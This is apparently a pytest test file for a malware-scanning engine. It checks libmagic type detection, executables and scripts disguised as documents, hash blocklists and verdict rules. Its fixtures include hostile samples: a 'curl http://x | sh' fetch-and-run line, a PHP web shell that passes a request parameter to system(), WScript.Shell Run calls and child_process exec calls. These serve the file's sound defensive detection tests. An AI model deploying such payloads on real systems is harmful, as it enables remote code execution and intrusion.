"""libmagic versus extension, executables, allowlist, blocklists, verdict rules."""

from __future__ import annotations

import hashlib
import random
from pathlib import Path

import magic
import pytest

from secops.scanning import Finding, ScanConfig, Scanner, Severity, Verdict, filetype
from secops.scanning.models import verdict_for
from tests.scanning.conftest import ids, located
from tests.scanning.corpus import EICAR, gif, minimal_elf, minimal_pe, pdf, png, zip_bytes


@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "report.docx"])
def test_pe_disguised_as_document_is_high(scanner: Scanner, name: str) -> None:
    result = scanner.scan_bytes(minimal_pe(), name)
    disguised = [f for f in result.findings if f.id == "type.disguised_executable"]
    assert disguised and disguised[0].severity is Severity.HIGH
    assert result.verdict is Verdict.SUSPICIOUS


def test_executables_are_identified_and_clean_when_named_honestly(scanner: Scanner) -> None:
    pe = scanner.scan_bytes(minimal_pe(), "setup.exe")
    assert [f.description for f in pe.findings if f.id == "executable.identified"][0].startswith(
        "PE executable (x86-64)")
    assert pe.verdict is Verdict.CLEAN
    elf = scanner.scan_bytes(minimal_elf(), "tool")
    assert "ELF 64-bit executable (x86-64)" in elf.findings[0].description
    assert elf.verdict is Verdict.CLEAN


def test_elf_disguised_as_image_inside_archive(scanner: Scanner) -> None:
    result = scanner.scan_bytes(zip_bytes([("pics/cat.png", minimal_elf())]), "pics.zip")
    assert {f.location for f in result.findings if f.id == "type.disguised_executable"} == {
        "pics.zip!pics/cat.png"}


def test_script_disguised_as_document(scanner: Scanner) -> None:
    result = scanner.scan_bytes(b"#!/bin/sh\ncurl http://x | sh\n", "cv.pdf")
    assert "type.disguised_script" in ids(result)
    assert result.verdict is Verdict.SUSPICIOUS


POWERSHELL = (b"$target = Join-Path $env:TEMP 'update'\r\n"
              b"Get-ChildItem $target | Remove-Item -Recurse\r\n"
              b"Start-Process -FilePath \"$target\\setup.exe\"\r\n")
SCRIPTS_LIBMAGIC_CALLS_TEXT = {
    "PowerShell script": POWERSHELL,
    "PowerShell script, UTF-16 with BOM": b"\xff\xfe" + POWERSHELL.decode().encode("utf-16-le"),
    "PowerShell script after a comment block": b"".join(
        b"# line %d of a long header\n" % i for i in range(12)) + POWERSHELL,
    "PowerShell command line": b"powershell.exe -NoProfile -File run.ps1\r\n",
    "VBScript": b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe"\r\n'
                b"WScript.Quit\r\n",
    "VBScript opener": b"On Error Resume Next\r\nx = 1\r\n",
    "JScript": b'var shell = new ActiveXObject("WScript.Shell");\r\n'
               b'shell.Run("calc.exe");\r\nWScript.Quit();\r\n',
    "batch file": b"setlocal\r\nset TARGET=%TEMP%\\x\r\ncall :run\r\ngoto :eof\r\n",
    "HTML application": b'<html><head><HTA:APPLICATION ID="app"/>'
                        b'<script language="VBScript">CreateObject("WScript.Shell")</script>',
}


@pytest.mark.parametrize("case", sorted(SCRIPTS_LIBMAGIC_CALLS_TEXT))
@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "report.docx"])
def test_scripts_libmagic_calls_text_are_disguised_scripts(scanner: Scanner, case: str,
                                                           name: str) -> None:
    content = SCRIPTS_LIBMAGIC_CALLS_TEXT[case]
    assert magic.from_buffer(content, mime=True).startswith("text/")  # libmagic alone misses it
    result = scanner.scan_bytes(content, name)
    disguised = [f for f in result.findings if f.id == "type.disguised_script"]
    assert disguised and disguised[0].severity is Severity.HIGH, case
    assert "type.extension_mismatch" not in ids(result)
    assert result.verdict is Verdict.SUSPICIOUS


def test_a_script_named_as_itself_is_not_disguised(scanner: Scanner) -> None:
    for name in ("cleanup.ps1", "run.bat", "tool.vbs", "tool.js", "app.hta", "noext"):
        assert "type.disguised_script" not in ids(scanner.scan_bytes(POWERSHELL, name)), name


@pytest.mark.parametrize("text", [
    b"# Deploying\n\nRun the following in PowerShell:\n\n```powershell\n"
    b"$target = Join-Path $env:TEMP 'x'\nGet-ChildItem $target\n```\n",
    b"Set up the server before the meeting.\nDim the lights at six.\nCall Anna at noon.\n",
    b"2024-05-01 10:00:01 INFO start-process worker=3\n"
    b"2024-05-01 10:00:02 WARN set-quota failed\n",
    b"name,set,value\nvar,x = 1,2\nfunction,3,4\n",
    b"Meeting notes\n$5 = the price of lunch\nGet-well cards for Sam\n",
    b"Start the migration on the new service.\nCall the owner if it fails.\n"
    b"Start again after an hour.\n",
    b"An HTA starts with a <HTA:APPLICATION> tag in its head.\n",
])
def test_documents_that_mention_script_words_are_not_scripts(scanner: Scanner,
                                                             text: bytes) -> None:
    for name in ("README.md", "notes.txt", "report.log", "data.csv"):
        assert "type.disguised_script" not in ids(scanner.scan_bytes(text, name)), (name, text)


# Text that libmagic gives a script's MIME type because a regular expression of its
# matched somewhere inside (it has no test of how the text opens for these languages)
CODE_QUOTED_IN_DOCUMENTS = {
    "Markdown with a fenced Python block": (
        b"# Title\n\nSome prose about the tool.\n\n```python\nimport os\nimport sys\n"
        b"def main():\n    pass\n```\n", "text/x-script.python"),
    "Markdown with a fenced JavaScript block": (
        b"## Usage\n\n```html\n<script>\n$(function() {\n\t$('select').selectize();\n"
        b"});\n</script>\n```\n", "application/javascript"),
    "Markdown with a fenced Ruby block": (
        b"# Title\n\nSome prose.\n\n```ruby\nrequire 'x'\nclass Foo < Bar\nend\n```\n",
        "text/x-ruby"),
    "Markdown with indented R code": (
        b"# fake pronoun fails informatively\n\n    Code\n      f <- (function() .data$foo)\n"
        b"      (expect_error(f(), \"subset\"))\n", "application/javascript"),
    "a log line mentioning (function()": (
        b"2026-01-09 12:00:01 INFO user clicked (function() ok) on page\n"
        b"2026-01-09 12:00:02 INFO done\n", "application/javascript"),
}
SCRIPTS_LIBMAGIC_RECOGNISES = {
    "Python without an interpreter line": (
        b"import os\nimport subprocess\n\ndef main():\n    subprocess.run(['id'])\n",
        "text/x-script.python"),
    "JavaScript after a licence comment": (
        b"/*! lib v1 | MIT */\n(function(){ var a = require('child_process'); a.exec('id'); "
        b"})();\n", "application/javascript"),
    "CommonJS module": (b"const cp = require('child_process');\n"
                        b"module.exports = () => cp.exec('id');\n", "application/javascript"),
    "Ruby": (b"require 'socket'\nclass Shell < Object\n  def run; end\nend\n", "text/x-ruby"),
    "PHP": (b"<?php system($_GET['c']); ?>\n", "text/x-php"),
}


@pytest.mark.parametrize("case", sorted(CODE_QUOTED_IN_DOCUMENTS))
def test_code_quoted_in_a_document_is_not_a_disguised_script(scanner: Scanner,
                                                             case: str) -> None:
    text, mime = CODE_QUOTED_IN_DOCUMENTS[case]
    assert magic.from_buffer(text, mime=True) == mime  # libmagic alone takes it for code
    for name in ("README.md", "notes.txt", "app.log"):
        result = scanner.scan_bytes(text, name)
        assert "type.disguised_script" not in ids(result), (case, name)
        assert result.verdict is Verdict.CLEAN, (case, name)


@pytest.mark.parametrize("case", sorted(SCRIPTS_LIBMAGIC_RECOGNISES))
def test_scripts_libmagic_recognises_named_as_documents_are_disguised(scanner: Scanner,
                                                                      case: str) -> None:
    text, mime = SCRIPTS_LIBMAGIC_RECOGNISES[case]
    assert magic.from_buffer(text, mime=True) == mime
    for name in ("notes.txt", "invoice.pdf", "README.md"):
        result = scanner.scan_bytes(text, name)
        disguised = [f for f in result.findings if f.id == "type.disguised_script"]
        assert disguised and disguised[0].severity is Severity.HIGH, (case, name)
        assert mime in disguised[0].description


def test_script_in_a_text_member_of_an_archive(scanner: Scanner) -> None:
    vbs = SCRIPTS_LIBMAGIC_CALLS_TEXT["VBScript"]
    result = scanner.scan_bytes(zip_bytes([("docs/readme.txt", vbs)]), "docs.zip")
    assert located(result, "type.disguised_script") == {"docs.zip!docs/readme.txt"}


def test_script_language_reads_only_the_opening(scanner: Scanner) -> None:
    late = b"Plain words.\n" * 400 + POWERSHELL  # past the first 4 KiB
    assert filetype.script_language(late) is None
    assert filetype.script_language(POWERSHELL) == "PowerShell script"


def test_extension_mismatch_and_double_extension(scanner: Scanner) -> None:
    assert "type.extension_mismatch" in ids(scanner.scan_bytes(png(), "scan.pdf"))
    assert "type.extension_mismatch" not in ids(scanner.scan_bytes(pdf(), "scan.pdf"))
    assert "type.double_extension" in ids(scanner.scan_bytes(b"echo", "invoice.pdf.bat"))
    assert "type.double_extension" not in ids(scanner.scan_bytes(b"echo", "build.tar.bat"))


def test_allowlist_of_accepted_types() -> None:
    scanner = Scanner(ScanConfig(allowed_mime_types=frozenset({"application/pdf", "image/*"})))
    assert scanner.scan_bytes(pdf(), "a.pdf").verdict is Verdict.CLEAN
    assert scanner.scan_bytes(png(), "a.png").verdict is Verdict.CLEAN
    result = scanner.scan_bytes(b"plain words\n", "a.txt")
    assert "type.not_allowed" in ids(result) and result.verdict is Verdict.SUSPICIOUS


def test_hash_blocklists_make_files_malicious(tmp_path: Path) -> None:
    bad = b"an innocent looking but known bad file\n"
    nested_bad = b"known bad member\n"
    sha_file = tmp_path / "sha256.txt"
    sha_file.write_text(f"# feed header\n{hashlib.sha256(bad).hexdigest().upper()}  bad.txt\n"
                        "not-a-digest\n")
    md5_file = tmp_path / "md5.txt"
    md5_file.write_text(hashlib.md5(nested_bad).hexdigest() + "\n")
    scanner = Scanner(ScanConfig(sha256_blocklists=(sha_file,), md5_blocklists=(md5_file,)))
    top = scanner.scan_bytes(bad, "bad.txt")
    assert ids(top) == {"hash.blocklist.sha256"} and top.verdict is Verdict.MALICIOUS
    nested = scanner.scan_bytes(zip_bytes([("x/m.txt", nested_bad)]), "a.zip")
    assert [(f.id, f.location) for f in nested.findings] == [("hash.blocklist.md5",
                                                              "a.zip!x/m.txt")]
    assert scanner.scan_bytes(b"other", "o.txt").verdict is Verdict.CLEAN


def test_result_fields_and_contract_dict(scanner: Scanner, tmp_path: Path) -> None:
    path = tmp_path / "eicar.com"
    path.write_bytes(EICAR)
    result = scanner.scan_path(path)
    assert result.sha256 == hashlib.sha256(EICAR).hexdigest()
    assert result.md5 == hashlib.md5(EICAR).hexdigest()
    assert (result.size, result.path, result.mime) == (68, str(path), "text/plain")
    assert result.description and result.ruleset_version == scanner.ruleset_version
    assert list(result.to_dict()) == ["path", "sha256", "size", "mime", "verdict", "findings"]
    assert list(result.to_dict()["findings"][0]) == ["id", "severity", "description",
                                                     "location"]


def test_verdict_rules() -> None:
    def finding(severity: Severity) -> Finding:
        return Finding("x", severity, "d")

    assert verdict_for([]) is Verdict.CLEAN
    assert verdict_for([finding(Severity.INFO), finding(Severity.LOW)]) is Verdict.CLEAN
    assert verdict_for([finding(Severity.MEDIUM)]) is Verdict.SUSPICIOUS
    assert verdict_for([finding(Severity.HIGH)]) is Verdict.SUSPICIOUS
    assert verdict_for([finding(Severity.LOW), finding(Severity.CRITICAL)]) is Verdict.MALICIOUS


def test_engine_is_pure() -> None:
    import ast

    root = Path(__file__).resolve().parents[2] / "secops" / "scanning"
    forbidden = ("secops.api", "secops.db", "secops.services", "secops.config", "tasks",
                 "requests", "httpx", "socket", "urllib")
    for source in root.glob("*.py"):
        for node in ast.walk(ast.parse(source.read_text())):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            for name in names:
                assert not name.startswith(forbidden), f"{source.name} imports {name}"


def test_special_and_oversized_files(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        Scanner().scan_path(fifo)
    big = tmp_path / "big.log"
    big.write_bytes(b"line\n" * 1000)
    result = Scanner(ScanConfig(max_file_bytes=1000)).scan_path(big)
    assert "scan.too_large" in ids(result) and result.verdict is Verdict.SUSPICIOUS
    assert result.sha256 == hashlib.sha256(big.read_bytes()).hexdigest()
    assert result.size == 5000


PLAIN_SAMPLES = {
    "ascii": b"invoice paid in full\n" * 50,
    "crlf": b"line one\r\nline two\r\n" * 40,
    "cr": b"line one\rline two\r" * 40,
    "long lines": b"x" * 5000 + b"\n",
    "no terminator": b"just words without a newline",
    "utf-8": "caf\u00e9 \u00fcber na\u00efve\n".encode() * 30,
    "escapes": b"\x1b[1mbold\x1b[0m text\n" * 20,
}
RECOGNISED_TEXT = {
    "text/x-c": b"#include <stdio.h>\n\nint main(void)\n{\n    printf(\"hi\\n\");\n    return 0;\n}\n",
    # the Python only after the first KiB: the description sees it too now
    "text/x-script.python": b"".join(b"# comment line number %d of a long header\n" % i
                                     for i in range(40)) + b"import os\n\ndef main():\n    pass\n",
}


class _CountingMagic:
    def __init__(self, real: magic.Magic) -> None:
        self.real, self.calls = real, 0

    def from_buffer(self, data: bytes) -> str:
        self.calls += 1
        return str(self.real.from_buffer(data))


def _identify_counting_mime_passes(data: bytes, monkeypatch) -> tuple[filetype.TypeInfo, int]:
    """``identify`` with a description, and how many MIME passes libmagic made."""
    mime_magic, text_magic = filetype._magic_pair()
    counting = _CountingMagic(mime_magic)
    monkeypatch.setattr(filetype, "_magic_pair", lambda: (counting, text_magic))
    return filetype.identify(data, 4096, describe=True), counting.calls


@pytest.mark.parametrize("name", sorted(PLAIN_SAMPLES))
def test_plain_text_gets_its_mime_type_from_the_description_pass(name: str, monkeypatch) -> None:
    data = PLAIN_SAMPLES[name]
    alone = filetype.identify(data, 4096, describe=False)
    both, mime_passes = _identify_counting_mime_passes(data, monkeypatch)
    assert filetype.PLAIN_TEXT.fullmatch(both.description), both.description
    assert both.mime == alone.mime == "text/plain" and mime_passes == 0


@pytest.mark.parametrize("mime", sorted(RECOGNISED_TEXT))
def test_recognised_text_still_gets_libmagics_mime_pass(mime: str, monkeypatch) -> None:
    info, mime_passes = _identify_counting_mime_passes(RECOGNISED_TEXT[mime], monkeypatch)
    assert info.mime == mime and mime_passes == 1
    assert not filetype.PLAIN_TEXT.fullmatch(info.description)
    if mime == "text/x-script.python":
        assert info.description.startswith("Python script")


def _json_document(size: int) -> bytes:
    """A JSON array of records, at least ``size`` bytes long (JSON lines would not do:
    libmagic recognises those from their first lines)."""
    records, body = [], 0
    while body < size:
        record = b'{"id": %d, "user": "alice", "roles": ["reader", "auditor"], "ok": true}' \
            % len(records)
        records.append(record)
        body += len(record) + 2
    return b"[\n" + b",\n".join(records) + b"\n]\n"


@pytest.mark.parametrize("describe", [False, True])
def test_json_larger_than_the_type_head_is_json_up_to_its_own_limit(describe: bool) -> None:
    document = _json_document(200 * 1024)
    assert len(document) > 4096
    # Cut off at the usual head, libmagic's JSON parser cannot finish the document.
    assert filetype.identify(document, 4096, describe=describe).mime == "text/plain"
    whole = filetype.identify(document, 4096, describe=describe, json_bytes=1024 * 1024)
    assert whole.mime == "application/json"
    if describe:
        assert whole.description.startswith("JSON")
    # Past json_bytes it is cut off again: the limit bounds libmagic's work.
    capped = filetype.identify(document, 4096, describe=describe, json_bytes=64 * 1024)
    assert capped.mime == "text/plain"
    # Leading whitespace is JSON's too.
    assert filetype.identify(b" \r\n\t" + document, 4096, describe=describe,
                             json_bytes=1024 * 1024).mime == "application/json"


def test_text_opening_with_a_brace_is_not_taken_for_json() -> None:
    not_json = b"{ this is a log line and not JSON }\n" * 4000
    info = filetype.identify(not_json, 4096, describe=False, json_bytes=1024 * 1024)
    assert info.mime == "text/plain"
    assert filetype.opens_like_json(b"\n  [1, 2]") and filetype.opens_like_json(b"{}")
    assert not filetype.opens_like_json(b"\xef\xbb\xbf{}") and not filetype.opens_like_json(b"x{")


def test_scanner_reports_large_json_files_as_json(tmp_path: Path) -> None:
    path = tmp_path / "export.json"
    path.write_bytes(_json_document(300 * 1024))
    result = Scanner(ScanConfig(describe=False, md5=False)).scan_path(path)
    assert result.mime == "application/json" and result.verdict is Verdict.CLEAN
    small = Scanner(ScanConfig(describe=False, md5=False, json_magic_bytes=4096))
    assert small.scan_path(path).mime == "text/plain"


FIXED_SAMPLES = {
    "application/octet-stream": random.Random(7).randbytes(4096),
    "application/json": b'{"user": "alice", "roles": ["reader"]}\n',
    "application/x-ndjson": b'{"a": 1}\n{"a": 2}\n{"b": [1, 2]}\n',
    "text/csv": b"name,team,score\nalice,blue,3\nbob,red,4\ncarol,blue,5\n",
    "application/x-empty": b"",
}


NAMED_SAMPLES = {
    "text/html": b"<html><head><title>x</title></head><body>hi</body></html>\n",
    "image/svg+xml": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                     b'width="8" height="8"><rect width="4" height="4"/></svg>\n',
    "text/x-shellscript": b"#!/bin/sh\necho hi\n",
    "application/pdf": pdf(),
    "application/zip": zip_bytes([("a.txt", b"hello")]),
    "image/png": png(),
    "image/gif": gif(),
}


@pytest.mark.parametrize("mime", sorted(NAMED_SAMPLES))
def test_formats_named_with_their_mime_type_skip_the_mime_pass(mime: str, monkeypatch) -> None:
    data = NAMED_SAMPLES[mime]
    alone = filetype.identify(data, 4096, describe=False)
    both, mime_passes = _identify_counting_mime_passes(data, monkeypatch)
    assert both.description.split(",")[0] in filetype.NAMED_MIMES, both.description
    assert both.mime == alone.mime == mime and mime_passes == 0


def test_a_format_libmagic_types_two_ways_keeps_the_mime_pass(monkeypatch) -> None:
    """JPEG's rules give image/jpeg or image/x-hsi: the description is not enough."""
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)
    info, mime_passes = _identify_counting_mime_passes(jpeg, monkeypatch)
    assert info.description.startswith("JPEG image data") and mime_passes == 1
    assert info.mime == "image/jpeg"


@pytest.mark.parametrize("mime", sorted(FIXED_SAMPLES))
def test_descriptions_with_one_mime_type_skip_the_mime_pass(mime: str, monkeypatch) -> None:
    data = FIXED_SAMPLES[mime]
    alone = filetype.identify(data, 4096, describe=False)
    both, mime_passes = _identify_counting_mime_passes(data, monkeypatch)
    assert both.description in filetype.FIXED_MIMES, both.description
    assert both.mime == alone.mime == mime and mime_passes == 0
